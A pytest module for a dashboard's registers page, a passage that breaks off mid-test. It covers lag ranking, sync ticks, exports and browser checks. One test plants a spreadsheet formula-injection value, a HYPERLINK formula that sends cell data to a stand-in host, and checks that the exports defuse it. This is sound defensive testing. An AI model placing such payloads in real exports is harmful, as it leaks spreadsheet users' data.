"""The registers page ``/registers``: the register tables (on SQLite and PostgreSQL), the
exports, the page's callbacks called as functions, and two real browser checks.

The small district (tests/test_web_support) with hand-made rows whose lagging is known, at
NOW = 2026-11-21 10:00 in Shanghai (TODAY):

    enterprises  state           planned       lagging
    ...1X 甲公司  reopened        —             no
    ...2X 乙公司  reopened        —             no
    ...3X 丙公司  approved        —             no
    ...4X 丁公司  registered (S2) —             no
    ...5X 戊公司  approved (S2)   TODAY-3       3 days behind
    ...6X 己公司  registered      TODAY-10      10 days behind
    ...7X 庚公司  reopened        TODAY-20      no (reopened)
    ...8X 辛公司  approved (S2)   TODAY         no (not passed)

    sites  G1 (S1) 2 unchecked key-region arrivals          lagging: unchecked (first: no date)
           G2 (S2) approved, planned TODAY-2                lagging: 2 days
           G3 (S1) reopened, planned TODAY-5                no

    shops  L1 reported open today; L2 last report yesterday (1 day); L3 closed down;
           L4 never reported (most overdue of all)

    disinfection  K1 due TODAY-2, not done: overdue 2 days; K2 due TODAY-1, done: not shown;
                  K3 due today, not done: due; K4 due today, done; K5 due tomorrow: not shown
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.request
import zipfile
from collections.abc import Iterator

import pandas as pd
import pytest
from dash import no_update
from sqlalchemy import select, update
from test_web_support import NOW, S1, S2, TODAY, build_small_district, use_as_app_database

from callbacks import registers as reg_callbacks
from dashboard import migrate, register_tables, versions
from dashboard.config import PROJECT_ROOT
from dashboard.db import get_engine, session_scope
from dashboard.idcodes import resident_id_check_char
from dashboard.models import (
    ConstructionSite,
    DataVersion,
    DisinfectionTask,
    Enterprise,
    Shop,
    SiteWorker,
)
from dashboard.queries import AreaScope, scope_of

E = {n: f"9131010400000000{n}X" for n in range(1, 9)}
DAY = dt.timedelta(days=1)
T0 = NOW - dt.timedelta(hours=2)
T1 = NOW - dt.timedelta(minutes=5)


def _resident_id(first17: str) -> str:
    return first17 + resident_id_check_char(first17)


# Workers with real-shaped ID numbers (valid check digits) and names: never in a table or file.
WORKERS = [
    (_resident_id("32010219850314123"), "王建国", "G1"),
    (_resident_id("42010619900721567"), "李秀英", "G1"),
    (_resident_id("34010419781102246"), "张卫东", "G2"),
]


def write_registers(session) -> None:
    """The hand-made rows of the module's docstring, on top of the small district."""
    session.add_all(
        [
            Enterprise(
                credit_code=E[5],
                name="戊公司",
                subdistrict_code=S2,
                state="approved",
                planned_reopen_date=TODAY - 3 * DAY,
                planned_headcount=40,
                returned_headcount=12,
                labour_gap={"电工": 3, "焊工": 2},
            ),
            Enterprise(
                credit_code=E[6],
                name="己公司",
                subdistrict_code=S1,
                state="registered",
                planned_reopen_date=TODAY - 10 * DAY,
            ),
            Enterprise(
                credit_code=E[7],
                name="庚公司",
                subdistrict_code=S1,
                state="reopened",
                planned_reopen_date=TODAY - 20 * DAY,
            ),
            Enterprise(
                credit_code=E[8],
                name="辛公司",
                subdistrict_code=S2,
                state="approved",
                planned_reopen_date=TODAY,
            ),
            ConstructionSite(
                site_id="G3",
                name="三号工地",
                subdistrict_code=S1,
                state="reopened",
                planned_reopen_date=TODAY - 5 * DAY,
            ),
            DisinfectionTask(
                place_id="K1",
                due_on=TODAY - 2 * DAY,
                place_name="一号菜场",
                place_kind="market",
                subdistrict_code=S1,
            ),
            DisinfectionTask(
                place_id="K2",
                due_on=TODAY - DAY,
                place_name="二号菜场",
                subdistrict_code=S1,
                done_at=NOW - DAY,
            ),
            DisinfectionTask(
                place_id="K3", due_on=TODAY, place_name="三号地铁站", subdistrict_code=S2
            ),
            DisinfectionTask(
                place_id="K4",
                due_on=TODAY,
                place_name="四号商场",
                subdistrict_code=S2,
                done_at=NOW - dt.timedelta(hours=1),
            ),
            DisinfectionTask(
                place_id="K5", due_on=TODAY + DAY, place_name="五号学校", subdistrict_code=S1
            ),
            *[
                SiteWorker(
                    id_number=number,
                    site_id=site,
                    name=name,
                    home_province="湖北",
                    arrived_on=TODAY,
                    from_key_region=True,
                    certificate_checked=False,
                )
                for number, name, site in WORKERS
            ],
        ]
    )
    session.flush()
    session.execute(
        update(ConstructionSite)
        .where(ConstructionSite.site_id == "G1")
        .values(key_region_arrivals=2, unchecked_arrivals=2, state="reopened")
    )
    session.execute(
        update(ConstructionSite)
        .where(ConstructionSite.site_id == "G2")
        .values(state="approved", planned_reopen_date=TODAY - 2 * DAY, key_region_arrivals=1)
    )
    shops = {
        "L1": {"is_open": True, "open_on": TODAY},
        "L2": {"is_open": True, "open_on": TODAY - DAY},
        "L3": {"is_open": False, "open_on": TODAY - 5 * DAY, "closed_down": True},
        "L4": {"is_open": None, "open_on": None},
    }
    for licence, values in shops.items():
        session.execute(update(Shop).where(Shop.licence_id == licence).values(**values))
    for model in (Enterprise, Shop, ConstructionSite):
        session.execute(update(model).values(updated_at=T0))
    versions.bump("disinfection", session=session, at=T0)
    session.flush()


@pytest.fixture
def reg_session(session) -> Iterator:
    build_small_district(session)
    write_registers(session)
    session.commit()
    yield session


@pytest.fixture
def app_db(db_url, monkeypatch) -> Iterator[str]:
    yield from use_as_app_database(db_url, monkeypatch)


@pytest.fixture
def reg_db(app_db, monkeypatch) -> str:
    with session_scope(app_db) as session:
        write_registers(session)
    monkeypatch.setattr(reg_callbacks, "utcnow", lambda: NOW)
    return app_db


WHOLE = AreaScope.whole_district()


def _frame(session, name, **kw) -> pd.DataFrame:
    return register_tables.register_frame(name, session=session, scope=WHOLE, today=TODAY, **kw)


def _keys(frame: pd.DataFrame, name: str) -> list[str]:
    return list(frame[register_tables.register(name).key])


# --------------------------------------------------------------------------- the tables


def test_reg001_enterprises_laggards_first_most_overdue_first(reg_session):
    frame = _frame(reg_session, "enterprises")
    assert _keys(frame, "enterprises") == [E[6], E[5], E[1], E[2], E[3], E[4], E[7], E[8]]
    assert list(frame["lagging"]) == [True, True, False, False, False, False, False, False]
    assert list(frame["overdue_days"][:2]) == [10, 3]
    assert frame["overdue_days"][2:].isna().all()
    assert list(frame["lag_reason"][:2]) == [register_tables.LAG_PLANNED_PASSED] * 2
    assert set(frame["lag_reason"][2:]) == {""}
    row = frame.set_index("credit_code").loc[E[5]]
    assert row["subdistrict"] == "乙街道" and row["labour_gap"] == 5


def test_reg002_scope_subdistrict_and_state_filters(reg_session):
    s2 = _frame(reg_session, "enterprises", subdistrict=S2)
    assert _keys(s2, "enterprises") == [E[5], E[4], E[8]]
    approved = _frame(reg_session, "enterprises", state="approved")
    assert _keys(approved, "enterprises") == [E[5], E[3], E[8]]
    scope = scope_of([S1], session=reg_session)
    mine = register_tables.register_frame(
        "enterprises", session=reg_session, scope=scope, today=TODAY
    )
    assert _keys(mine, "enterprises") == [E[6], E[1], E[2], E[3], E[7]]
    assert register_tables.subdistrict_options(session=reg_session, scope=scope) == [(S1, "甲街道")]
    with pytest.raises(ValueError):
        _frame(reg_session, "enterprises", state="open")
    with pytest.raises(ValueError):
        _frame(reg_session, "site_workers")


def test_reg003_sites_unchecked_arrivals_and_planned_date_no_workers(reg_session):
    frame = _frame(reg_session, "sites")
    # Unchecked arrivals have no date to be behind by: they come before any date.
    assert _keys(frame, "sites") == ["G1", "G2", "G3"]
    assert list(frame["lag_reason"]) == [
        register_tables.LAG_UNCHECKED,
        register_tables.LAG_PLANNED_PASSED,
        "",
    ]
    assert list(frame["unchecked_arrivals"]) == [2, 0, 0]
    assert list(frame["headcount"]) == [50, 20, 0]
    assert not {"id_number", "name_of_worker", "home_province"} & set(frame.columns)
    text = frame.to_csv()
    for number, name, _site in WORKERS:
        assert number not in text and name not in text


def test_reg004_shops_without_todays_report_lag_never_reported_first(reg_session):
    frame = _frame(reg_session, "shops")
    assert _keys(frame, "shops") == ["L4", "L2", "L1", "L3"]
    assert list(frame["state"]) == ["unreported", "unreported", "open", "closed_down"]
    assert list(frame["lagging"]) == [True, True, False, False]
    assert pd.isna(frame["overdue_days"][0]) and frame["overdue_days"][1] == 1
    assert _keys(_frame(reg_session, "shops", state="open"), "shops") == ["L1"]


def test_reg005_disinfection_today_and_overdue(reg_session):
    frame = _frame(reg_session, "disinfection")
    assert list(frame["place_id"]) == ["K1", "K3", "K4"]
    assert list(frame["state"]) == ["overdue", "pending", "done"]
    assert list(frame["lagging"]) == [True, False, False]
    assert frame["overdue_days"][0] == 2
    assert frame["task_id"][0] == f"K1|{(TODAY - 2 * DAY).isoformat()}"


def _stamp(session, model, version: int, **where) -> None:
    """Rows written by the write of data version ``version`` (what the ingestion stamps)."""
    column, values = next(iter(where.items()))
    session.execute(
        update(model).where(getattr(model, column).in_(values)).values(sync_version=version)
    )


def test_reg006_changed_since_by_sync_version_with_match_flags(reg_session):
    reg_session.execute(
        update(Enterprise)
        .where(Enterprise.credit_code.in_([E[5], E[8]]))
        .values(state="reopened", updated_at=T1)
    )
    _stamp(reg_session, Enterprise, 7, credit_code=[E[3], E[5], E[8]])
    _stamp(reg_session, Enterprise, 4, credit_code=[E[6]])  # an earlier write, already seen
    reg_session.execute(
        update(DisinfectionTask).where(DisinfectionTask.place_id == "K1").values(done_at=T1)
    )
    _stamp(reg_session, DisinfectionTask, 3, place_id=["K1", "K4", "K5"])
    reg_session.commit()
    changed = register_tables.changed_since(
        "enterprises", 4, session=reg_session, scope=WHOLE, today=TODAY, state="approved"
    )
    assert dict(zip(changed["credit_code"], changed["match"], strict=True)) == {
        E[3]: True,  # still approved
        E[5]: False,  # reopened: out of the "approved" table
        E[8]: False,
    }
    in_s2 = register_tables.changed_since(
        "enterprises", 4, session=reg_session, scope=WHOLE, today=TODAY, subdistrict=S2
    )
    assert dict(zip(in_s2["credit_code"], in_s2["match"], strict=True)) == {
        E[3]: False,
        E[5]: True,
        E[8]: True,
    }
    # The grid gets the rows to keep in full, those to drop as their key only.
    sent = register_tables.records(in_s2, "enterprises", lang="zh", timezone="Asia/Shanghai")
    assert {"credit_code": E[3], "match": False} in sent
    assert [r["credit_code"] for r in sent if r["match"]] == [E[5], E[8]]
    assert register_tables.sync_mark("enterprises", session=reg_session) == 7
    assert register_tables.sync_mark("shops", session=reg_session) is None  # never stamped
    assert len(_changed(reg_session, "enterprises", 7)) == 0
    # Rows never stamped (NULL: written before stamping) are in the full table only.
    assert set(_changed(reg_session, "enterprises", None)["credit_code"]) == {
        E[3],
        E[6],
        E[5],
        E[8],
    }
    tasks = register_tables.changed_since(
        "disinfection", 0, session=reg_session, scope=WHOLE, today=TODAY
    )
    # K1 done now (an earlier task, done: out of the table); K4 done an hour ago (today's:
    # stays); K5 falls due tomorrow (not shown).
    assert dict(zip(tasks["task_id"].str[:2], tasks["match"], strict=True)) == {
        "K1": False,
        "K4": True,
        "K5": False,
    }


def _changed(session, name, mark, scope=WHOLE, **kw) -> pd.DataFrame:
    return register_tables.changed_since(
        name, mark, session=session, scope=scope, today=TODAY, **kw
    )


def test_reg013_lag_rank_order_is_the_documented_one(reg_session):
    """Unchecked arrivals (whatever the planned date) and never-reported shops first, then the
    most days behind, then the rest; ties by key. A hand-made sites register:

        G1 unchecked 2, planned none        no date        first
        G4 unchecked 1, planned TODAY-7     no date        second (key after G1)
        G5 registered, planned TODAY-30     30 days
        G2 approved, planned TODAY-2        2 days
        G6 approved, planned TODAY-2        2 days         (key after G2)
        G3 reopened                         not lagging
    """
    reg_session.add_all(
        [
            ConstructionSite(
                site_id="G4",
                name="四号工地",
                subdistrict_code=S1,
                state="approved",
                planned_reopen_date=TODAY - 7 * DAY,
                key_region_arrivals=1,
                unchecked_arrivals=1,
            ),
            ConstructionSite(
                site_id="G5",
                name="五号工地",
                subdistrict_code=S2,
                state="registered",
                planned_reopen_date=TODAY - 30 * DAY,
            ),
            ConstructionSite(
                site_id="G6",
                name="六号工地",
                subdistrict_code=S2,
                state="approved",
                planned_reopen_date=TODAY - 2 * DAY,
            ),
        ]
    )
    reg_session.commit()
    frame = _frame(reg_session, "sites")
    documented = ["G1", "G4", "G5", "G2", "G6", "G3"]
    assert _keys(frame, "sites") == documented
    by_rank = frame.sort_values(["lag_rank", "site_id"])
    assert list(by_rank["site_id"]) == documented
    ranks = dict(zip(frame["site_id"], frame["lag_rank"], strict=True))
    assert ranks["G1"] == ranks["G4"] == 0
    assert ranks["G5"] < ranks["G2"] == ranks["G6"] < ranks["G3"]
    # Shops: never reported first, though its "days behind" is blank (AG Grid would sort a
    # blank last in a descending sort).
    shops = _frame(reg_session, "shops")
    ranked = shops.sort_values(["lag_rank", "licence_id"])
    assert list(ranked["licence_id"]) == ["L4", "L2", "L1", "L3"]
    assert list(ranked["lag_rank"])[0] == 0


def test_reg014_grid_sorts_by_lag_rank_then_key(reg_db):
    for name in register_tables.REGISTERS:
        defs = reg_callbacks.column_defs(name, "zh")
        sorted_by = sorted((d["sortIndex"], d["field"], d["sort"]) for d in defs if "sort" in d)
        key = register_tables.register(name).key
        assert sorted_by == [(0, "lag_rank", "asc"), (1, key, "asc")], name
        assert next(d for d in defs if d["field"] == "lag_rank")["hide"] is True
    rows, *_ = reg_callbacks.load_grid("shops", None, None, None, "zh", None)
    assert [(r["licence_id"], r["lag_rank"]) for r in rows][:1] == [("L4", 0)]
    assert all(isinstance(r["lag_rank"], int) for r in rows)


def test_reg015_disinfection_done_earlier_and_new_task_arrive_on_the_next_tick(reg_db, tmp_path):
    """The review's reproduction: a task done at 09:40 is synced; then a file brings task B
    done at 09:30 (before the mark's time) and C, new, due today. Both come on the next tick."""
    _load, sync = _load_and_tick_setup(reg_db, "disinfection")
    at_0940 = dt.datetime(2026, 11, 21, 1, 40, tzinfo=dt.UTC)
    with session_scope(reg_db) as session:
        version = versions.bump("disinfection", session=session, at=at_0940)
        session.execute(
            update(DisinfectionTask)
            .where(DisinfectionTask.place_id == "K3")
            .values(done_at=at_0940, sync_version=version)
        )
    changes, fresh, reload = reg_callbacks.tick(1, "disinfection", None, None, "zh", sync, None)
    assert [(r["task_id"][:2], r["state"]) for r in changes["rows"]] == [("K3", "已消杀")]
    assert changes["mark"] == version and reload is no_update

    feed = tmp_path / "disinfection.csv"
    feed.write_text(
        "place_id,due_on,place_name,subdistrict_code,done_at\n"
        f"K1,{TODAY - 2 * DAY},一号菜场,{S1},2026-11-21T09:30:00+08:00\n"
        f"K6,{TODAY},六号楼宇,{S2},\n",
        encoding="utf-8",
    )
    _load_feed(reg_db, "disinfection", feed, (DisinfectionTask, "place_id", ["K1", "K6"]))
    changes2, *_ = reg_callbacks.tick(2, "disinfection", None, None, "zh", sync, changes)
    got = {r["task_id"]: r for r in changes2["rows"]}
    k1 = f"K1|{TODAY - 2 * DAY}"
    k6 = f"K6|{TODAY}"
    assert set(got) == {k1, k6}
    assert got[k1] == {"task_id": k1, "match": False}  # done: out of the overdue list
    assert got[k6]["match"] is True and got[k6]["state"] == "待消杀"
    assert changes2["mark"] > changes["mark"]


def _load_and_tick_setup(url: str, name: str):
    load = reg_callbacks.load_grid(name, None, None, None, "zh", None)
    return load, load[2]


def _load_feed(url: str, kind: str, path, stamp: tuple) -> None:
    """Load a feed file through the real ingestion path. Until the ingestion stamps rows'
    sync_version itself (another change), the rows it wrote get the version it bumped."""
    from dashboard.ingest import load_file

    model, column, keys = stamp
    with session_scope(url) as session:
        report = load_file(kind, path, session=session, now=NOW)
        assert (report.rows_loaded, report.rows_quarantined) == (2, 0), report.summary()
        version = session.scalar(select(DataVersion.version).where(DataVersion.dataset == kind))
        session.execute(
            update(model)
            .where(getattr(model, column).in_(keys), model.sync_version.is_(None))
            .values(sync_version=version)
        )


def test_reg016_rows_committed_out_of_order_arrive(reg_db):
    """Two loads overlap: one started at 09:50 (its rows' updated_at) but committed after one
    started at 09:58. The mark after the 09:58 load is past 09:50 by time, but the late
    commit has the higher sync_version (versions commit in order), so it arrives."""
    _load, sync = _load_and_tick_setup(reg_db, "enterprises")
    with session_scope(reg_db) as session:
        first = versions.bump("enterprises", session=session, at=NOW - dt.timedelta(minutes=2))
        session.execute(
            update(Enterprise)
            .where(Enterprise.credit_code == E[1])
            .values(capacity_pct=50.0, updated_at=NOW - dt.timedelta(minutes=2), sync_version=first)
        )
    changes, *_ = reg_callbacks.tick(1, "enterprises", None, None, "zh", sync, None)
    assert [r["credit_code"] for r in changes["rows"]] == [E[1]]
    with session_scope(reg_db) as session:
        second = versions.bump("enterprises", session=session, at=NOW)
        session.execute(
            update(Enterprise)
            .where(Enterprise.credit_code == E[2])
            .values(
                capacity_pct=60.0, updated_at=NOW - dt.timedelta(minutes=10), sync_version=second
            )
        )
    changes2, *_ = reg_callbacks.tick(2, "enterprises", None, None, "zh", sync, changes)
    assert [(r["credit_code"], r["capacity_pct"]) for r in changes2["rows"]] == [(E[2], 60.0)]


def test_reg017_a_row_that_left_the_scope_is_sent_as_its_key_only(reg_session):
    s1_only = scope_of([S1], session=reg_session)
    reg_session.execute(
        update(Enterprise)
        .where(Enterprise.credit_code == E[6])
        .values(subdistrict_code=S2, name="己公司（迁出）", sync_version=9)
    )
    reg_session.execute(
        update(Enterprise).where(Enterprise.credit_code == E[1]).values(sync_version=9)
    )
    reg_session.commit()
    frame = _changed(reg_session, "enterprises", 8, scope=s1_only)
    sent = register_tables.records(frame, "enterprises", lang="zh", timezone="Asia/Shanghai")
    by_key = {r["credit_code"]: r for r in sent}
    assert by_key[E[6]] == {"credit_code": E[6], "match": False}
    assert by_key[E[1]]["match"] is True and by_key[E[1]]["name"] == "甲公司"
    assert "迁出" not in json.dumps(sent, ensure_ascii=False)
    # Disinfection: the key is place|day.
    reg_session.execute(
        update(DisinfectionTask)
        .where(DisinfectionTask.place_id == "K1")
        .values(subdistrict_code=S2, sync_version=2)
    )
    reg_session.commit()
    tasks = _changed(reg_session, "disinfection", 1, scope=s1_only)
    sent = register_tables.records(tasks, "disinfection", lang="zh", timezone="Asia/Shanghai")
    assert sent == [{"task_id": f"K1|{TODAY - 2 * DAY}", "match": False}]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reg018_exports_defuse_formulas(reg_session, fmt):
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
    names = {E[1]: evil, E[2]: "+86 21 1234", E[3]: "-5", E[4]: "@SUM(A1)", E[7]: "\t=1+1"}
    for code, name in names.items():
        reg_session.execute(
            update(Enterprise).where(Enterprise.credit_code == code).values(name=name)
        )
    reg_session.commit()
    frame = register_tables.export_frame(
        "enterprises",
        [E[1], E[2], E[3], E[4], E[7], E[5]],
        session=reg_session,
        scope=WHOLE,
        today=TODAY,
        lang="zh",
        timezone="Asia/Shanghai",
    )
    data = register_tables.export_bytes(frame, fmt)
    if fmt == "csv":
        back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        column = back[0].index("名称")
        cells = [row[column] for row in back[1:]]
        days = [row[back[0].index("滞后天数")] for row in back[1:]]
    else:
        import openpyxl

        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        header = [c.value for c in sheet[1]]
        column = header.index("名称") + 1
        cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
        assert [c.data_type for c in cells] == ["s"] * 6  # text, not a formula ("f")
        days = [sheet.cell(row=r, column=header.index("滞后天数") + 1).value for r in range(2, 8)]
        cells = [c.value for c in cells]
    assert cells == [
        "'" + evil,
        "'+86 21 1234",
        "'-5",
        "'@SUM(A1)",
        "'\t=1+1",
        "戊公司",
    ]
    assert days[-1] in ("3", 3)  # numbers stay numbers


def test_reg019_no_tick_before_the_full_load_one_reload_at_the_day_change(reg_db, monkeypatch):
    # No SYNC yet (the full load is on its way), or a SYNC of another view: the tick is silent.
    assert reg_callbacks.tick(1, "enterprises", None, None, "zh", None, None) == (no_update,) * 3
    _load, sync = _load_and_tick_setup(reg_db, "enterprises")
    assert reg_callbacks.tick(2, "enterprises", S2, None, "zh", sync, None) == (no_update,) * 3
    assert reg_callbacks.tick(3, "shops", None, None, "zh", sync, None) == (no_update,) * 3
    assert reg_callbacks.tick(4, "enterprises", None, None, "zh", sync, None) == (no_update,) * 3
    # Midnight in Shanghai: the tick asks once for the whole table, then waits for it.
    monkeypatch.setattr(reg_callbacks, "utcnow", lambda: NOW + dt.timedelta(hours=14))
    assert reg_callbacks.tick(5, "enterprises", None, None, "zh", sync, None) == (
        no_update,
        no_update,
        "2026-11-22",
    )
    assert (
        reg_callbacks.tick(6, "enterprises", None, None, "zh", sync, None, "2026-11-22")
        == (no_update,) * 3
    )
    rows, columns, sync2, *_ = reg_callbacks.load_grid(
        "enterprises", None, None, "2026-11-22", "zh", sync
    )
    assert sync2["day"] == "2026-11-22" and sync2["load"] == sync["load"] + 1
    assert columns is no_update and len(rows) == 8


def _xlsx_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reg007_exports_parse_back_with_headers_and_no_personal_data(reg_session, fmt):
    frame = register_tables.export_frame(
        "sites",
        ["G2", "G1", "G9", "G2"],  # unknown and repeated ids are dropped
        session=reg_session,
        scope=WHOLE,
        today=TODAY,
        lang="zh",
        timezone="Asia/Shanghai",
    )
    data = register_tables.export_bytes(frame, fmt)
    if fmt == "csv":
        assert data.startswith(b"\xef\xbb\xbf")
        back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
        everything = data.decode("utf-8-sig")
    else:
        back = pd.read_excel(io.BytesIO(data), dtype=str)
        everything = _xlsx_text(data)
    assert list(back.columns) == [
        "工地编号",
        "名称",
        "总包单位",
        "街镇",
        "状态",
        "计划复工日",
        "滞后天数",
        "今日在岗",
        "今日新到",
        "重点地区来沪",
        "未核验",
        "滞后原因",
    ]
    assert list(back["工地编号"]) == ["G2", "G1"]
    assert list(back["状态"]) == ["已审核", "已复工"]
    assert list(back["滞后原因"]) == ["计划复工日已过", "重点地区来沪人员未核验"]
    assert list(back["未核验"]) == ["0", "2"]
    for number, name, _site in WORKERS:
        assert number not in everything and name not in everything
        assert number.encode() not in data


def test_reg008_english_headers_and_states(reg_session):
    frame = register_tables.export_frame(
        "enterprises",
        [E[5]],
        session=reg_session,
        scope=WHOLE,
        today=TODAY,
        lang="en",
        timezone="Asia/Shanghai",
    )
    back = pd.read_csv(
        io.BytesIO(register_tables.export_bytes(frame, "csv")), encoding="utf-8-sig", dtype=str
    )
    assert list(back.columns)[:5] == ["Credit code", "Name", "Subdistrict", "Industry", "State"]
    assert back["State"][0] == "approved"
    assert back["Credit code"][0] == E[5]
    assert back["Why lagging"][0] == "planned reopening date passed"
    assert back["Days behind"][0] == "3"


def test_reg009_export_leaves_out_ids_out_of_scope(reg_session):
    scope = scope_of([S1], session=reg_session)
    frame = register_tables.export_frame(
        "enterprises",
        [E[5], E[6]],
        session=reg_session,
        scope=scope,
        today=TODAY,
        lang="zh",
        timezone="Asia/Shanghai",
    )
    assert list(frame["统一社会信用代码"]) == [E[6]]


# --------------------------------------------------------------------------- the callbacks


def test_reg010_options_follow_the_register(reg_db):
    subs, states, value = reg_callbacks.load_options("shops", "zh", None)
    assert subs == [{"label": "甲街道", "value": S1}, {"label": "乙街道", "value": S2}]
    assert [o["value"] for o in states] == ["open", "closed", "unreported", "closed_down"]
    assert value is no_update
    _, _, cleared = reg_callbacks.load_options("enterprises", "zh", "open")
    assert cleared is None


def _bump(url: str, dataset: str, at: dt.datetime) -> None:
    with session_scope(url) as session:
        versions.bump(dataset, session=session, at=at)


def test_reg011_full_table_then_nothing_then_only_changed_rows(reg_db):
    rows, columns, sync, fresh, count = reg_callbacks.load_grid(
        "enterprises", None, None, None, "zh", None
    )
    assert [r["credit_code"] for r in rows] == [E[6], E[5], E[1], E[2], E[3], E[4], E[7], E[8]]
    assert rows[0]["state"] == "已登记" and rows[0]["lagging"] is True
    assert rows[0]["lag_reason"] == "计划复工日已过"
    assert [c["field"] for c in columns][:3] == ["lag_rank", "credit_code", "name"]
    assert count == "共 8 条，其中滞后 2 条"
    assert (sync["n"], sync["k"]) == (8, 2)
    assert fresh == "数据截至 09:50"  # the enterprises were written at 01:50 UTC
    assert sync["mark"] is None  # no row stamped yet
    personal = json.dumps(rows, ensure_ascii=False)
    assert "id_number" not in personal

    assert reg_callbacks.tick(1, "enterprises", None, None, "zh", sync, None) == (no_update,) * 3

    with session_scope(reg_db) as session:
        version = versions.bump("enterprises", session=session, at=T1)
        session.execute(
            update(Enterprise)
            .where(Enterprise.credit_code == E[5])
            .values(state="reopened", updated_at=T1, sync_version=version)
        )
    changes, fresh2, reload = reg_callbacks.tick(2, "enterprises", None, None, "zh", sync, None)
    assert [(r["credit_code"], r["state"], r["lagging"], r["match"]) for r in changes["rows"]] == [
        (E[5], "已复工", False, True)
    ]
    assert changes["key"] == "credit_code" and changes["mark"] == version
    assert changes["load"] == sync["load"] and reload is no_update
    assert fresh2 == "数据截至 09:55"
    # Nothing moved since: nothing sent; the mark is the tick's, not the full load's.
    assert reg_callbacks.tick(3, "enterprises", None, None, "zh", sync, changes) == (no_update,) * 3

    # A filter: the whole table again, same columns (same register).
    rows3, columns3, sync3, *_ = reg_callbacks.load_grid("enterprises", S2, None, None, "zh", sync)
    assert [r["credit_code"] for r in rows3] == [E[4], E[5], E[8]]
    assert columns3 is no_update and sync3["mark"] == version


def test_reg012_export_callback_builds_the_file_from_the_ids(reg_db):
    sent = reg_callbacks.export({"format": "csv", "register": "sites", "ids": ["G1", "G3"]}, "en")
    assert sent["filename"].startswith("sites-20261121-") and sent["filename"].endswith(".csv")
    data = base64.b64decode(sent["content"]) if sent["base64"] else sent["content"].encode()
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert back[0][0] == "Site" and [r[0] for r in back[1:]] == ["G1", "G3"]
    assert reg_callbacks.export({"format": "pdf", "register": "sites", "ids": []}, "en") is (
        no_update
    )
    assert reg_callbacks.export({"format": "csv", "register": "site_workers"}, "en") is no_update


# --------------------------------------------------------------------------- the browser

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMEDRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"
UNDER_CI = os.environ.get("CI", "").lower() in {"1", "true", "yes"}


@pytest.fixture(scope="module")
def live(tmp_path_factory) -> Iterator[tuple[str, str]]:
    """The app on the small district with the hand-made registers (SQLite), ticking each
    second; yields (base URL, database URL)."""
    if not (os.path.exists(CHROMIUM) and os.path.exists(CHROMEDRIVER)):
        reason = "headless browser not installed"
        if UNDER_CI:
            pytest.fail(reason)
        pytest.skip(reason)
    import socket

    url = f"sqlite:///{tmp_path_factory.mktemp('reg') / 'db.sqlite3'}"
    migrate.upgrade(url)
    with session_scope(url) as session:
        build_small_district(session)
        write_registers(session)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {
        **os.environ,
        "DASHBOARD_DATABASE_URL": url,
        "DASHBOARD_REFRESH_INTERVAL_S": "1",
        "DASHBOARD_DEMO": "false",
    }
    log = tempfile.TemporaryFile()
    proc = subprocess.Popen(
        [sys.executable, "-c", f"import app; app.app.run(host='127.0.0.1', port={port})"],
        cwd=PROJECT_ROOT,
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                urllib.request.urlopen(base + "/api/v1/health", timeout=2).read()
                break
            except OSError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    log.seek(0)
                    pytest.fail("the app did not start:\n" + log.read().decode(errors="replace"))
                time.sleep(0.3)
        yield base, url
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        log.close()
        get_engine(url).dispose()


@pytest.fixture
def browser() -> Iterator:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--window-size=1600,1000",
    ):
        options.add_argument(arg)
    profile = tempfile.mkdtemp(prefix="chrome-reg-")
    options.add_argument(f"--user-data-dir={profile}")
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


def _wait(driver, script: str, *args, timeout: float = 30.0, what: str = ""):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = driver.execute_script(script, *args)
        if value:
            return value
        time.sleep(0.2)
    pytest.fail(f"timed out waiting for {what}")


GRID_ROWS_JS = """
let api = null;
try { api = dash_ag_grid.getApi('reg-grid'); } catch (e) { return null; }
if (!api || api.getDisplayedRowCount() === 0) return null;
const rows = [];
api.forEachNodeAfterFilterAndSort(n => rows.push([n.data.credit_code || n.data.site_id,
  n.data.state, n.data.lagging]));
return rows;
"""


def test_reg020_browser_loads_rows_and_a_db_change_arrives_as_a_transaction(live, browser):
    base, url = live
    browser.get(base + "/registers")
    rows = _wait(browser, GRID_ROWS_JS, what="the enterprises")
    assert [r[0] for r in rows] == [E[6], E[5], E[1], E[2], E[3], E[4], E[7], E[8]]
    lagging = browser.execute_script(
        "return document.querySelectorAll('#reg-grid .ag-row.reg-lagging').length"
    )
    assert lagging >= 2  # both laggards are marked (pinned and body parts of each row)
    # A marker on the grid's API object: a re-created grid would not carry it.
    browser.execute_script("dash_ag_grid.getApi('reg-grid').__regMarker = 'kept';")
    with session_scope(url) as session:
        version = versions.bump("enterprises", session=session)
        session.execute(
            update(Enterprise)
            .where(Enterprise.credit_code == E[6])
            .values(state="reopened", updated_at=dt.datetime.now(dt.UTC), sync_version=version)
        )
    moved = _wait(
        browser,
